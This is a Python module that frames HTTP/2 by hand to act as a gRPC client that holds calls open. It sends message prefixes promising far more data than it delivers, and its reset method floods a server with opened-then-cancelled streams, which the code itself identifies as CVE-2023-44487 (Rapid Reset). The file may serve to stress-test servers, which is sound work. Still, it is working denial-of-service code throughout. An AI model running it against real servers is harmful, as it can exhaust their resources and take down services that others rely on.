"""A gRPC client that never finishes its messages: frames of HTTP/2 (RFC 9113) by hand."""

import socket
import struct
from collections import Counter
from collections.abc import Iterator
from contextlib import contextmanager, suppress

_DATA, _HEADERS, _RST_STREAM, _SETTINGS, _PING, _WINDOW_UPDATE = 0, 1, 3, 4, 6, 8
_ACK = 1
_END_HEADERS = 4
_CANCEL = 8
_FRAME_BYTES = 16_384
_WINDOW_BYTES = 65_535


def _frame(kind: int, flags: int, stream: int, content: bytes) -> bytes:
    return len(content).to_bytes(3) + bytes([kind, flags]) + stream.to_bytes(4) + content


def _headers(method: str) -> bytes:
    """Return headers without compression and index (RFC 7541, 6.2.2)."""
    headers = {":method": "POST", ":scheme": "http", ":path": method, ":authority": "a"}
    headers |= {"te": "trailers", "content-type": "application/grpc"}
    block = b""
    for name, value in headers.items():
        block += b"\0" + bytes([len(name)]) + name.encode()
        block += bytes([len(value)]) + value.encode()
    return block


PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(_SETTINGS, 0, 0, b"")


class UnfinishedCalls:
    """One connection with several calls, each with the start of one large message."""

    def __init__(self, connection: socket.socket, method: str, num_calls: int) -> None:
        self._connection = connection
        self._connection.settimeout(0.2)
        self._received = b""
        self._calls = [1 + 2 * number for number in range(num_calls)]
        # key: stream; 0 is the connection
        self._window = Counter(dict.fromkeys((0, *self._calls), _WINDOW_BYTES))
        self._headers = _headers(method)
        self._connection.sendall(PREFACE)
        for call in self._calls:
            self._connection.sendall(_frame(_HEADERS, _END_HEADERS, call, self._headers))

    def reset(self, num_calls: int) -> None:
        """Begin and cancel calls, as fast as the server reads (CVE-2023-44487)."""
        first = max(self._calls, default=-1) + 2
        # the server closes the connection, or receives no more
        with suppress(OSError):
            for call in range(first, first + 2 * num_calls, 2):
                frames = _frame(_HEADERS, _END_HEADERS, call, self._headers)
                self._connection.sendall(frames + _frame(_RST_STREAM, 0, call, _CANCEL.to_bytes(4)))

    def send(self, num_bytes: int) -> int:
        """Send the start of a longer message in each call, as far as allowed; return the bytes."""
        remaining = Counter(dict.fromkeys(self._calls, num_bytes))
        prefix = b"\0" + struct.pack(">I", num_bytes + 1_000_000)
        # the server has closed the connection or receives no more
        with suppress(OSError):
            for call in self._calls:
                self._send_data(call, prefix)
            while remaining.total() and self._receive():
                for call in self._calls:
                    while size := min(
                        remaining[call], self._window[0], self._window[call], _FRAME_BYTES
                    ):
                        self._send_data(call, bytes(size))
                        remaining[call] -= size
        return num_bytes * len(self._calls) - remaining.total()

    def _send_data(self, call: int, data: bytes) -> None:
        self._connection.sendall(_frame(_DATA, 0, call, data))
        self._window[0] -= len(data)
        self._window[call] -= len(data)

    def _receive(self) -> bool:
        """Read frames; return False if the server sends none for a while."""
        try:
            self._received += self._connection.recv(1 << 20)
        except TimeoutError:
            return False
        for kind, flags, stream, content in self._frames():
            if kind == _WINDOW_UPDATE:
                self._window[stream] += int.from_bytes(content)
            elif kind in (_SETTINGS, _PING) and not flags & _ACK:
                self._connection.sendall(_frame(kind, _ACK, 0, content if kind == _PING else b""))
        return True

    def _frames(self) -> Iterator[tuple[int, int, int, bytes]]:
        while len(self._received) >= 9:
            end = 9 + int.from_bytes(self._received[:3])
            if len(self._received) < end:
                return
            frame = self._received[:end]
            self._received = self._received[end:]
            yield frame[3], frame[4], int.from_bytes(frame[5:9]), frame[9:]


@contextmanager
def unfinished_calls(
    address: str, method: str, num_calls: int, source: str = "127.0.0.1"
) -> Iterator[UnfinishedCalls]:
    """Connect to a gRPC server, from an address of this host, and begin calls."""
    host, _, port = address.rpartition(":")
    with socket.create_connection((host, int(port)), source_address=(source, 0)) as connection:
        yield UnfinishedCalls(connection, method, num_calls)
